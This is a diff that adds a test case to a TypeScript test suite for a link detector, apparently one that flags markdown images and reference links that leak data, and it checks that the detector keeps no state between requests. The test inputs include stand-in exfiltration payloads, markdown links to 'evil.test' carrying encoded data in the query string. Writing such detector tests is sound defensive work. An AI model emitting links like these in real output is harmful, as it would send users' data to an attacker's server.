@@ -220,6 +220,21 @@ describe('a definition that an image refers to', () => {
   });
 });
 
+describe('the link check of a request', () => {
+  it('knows nothing of what another request defined or showed', () => {
+    const detector = createLinkDetector(hosts);
+    const image = 'Look: ![x][1] and more';
+    const alone = inspect(image, createLinkDetector(hosts));
+    assert.ok(inspect(`[1]: https://evil.test/log?q=${CODED}`, detector).length > 0);
+    assert.deepEqual(inspect(image, detector), alone);
+    for (const letter of 'abcdefghijkl') inspect(`![](https://evil.test/${letter}.png) next`, detector);
+    assert.deepEqual(
+      inspect('![](https://evil.test/z.png) next', detector),
+      inspect('![](https://evil.test/z.png) next', createLinkDetector(hosts)),
+    );
+  });
+});
+
 describe('the tail of the link check', () => {
   const rows: readonly (readonly [string, string])[] = [
     ['Nothing is open here. ', ''],
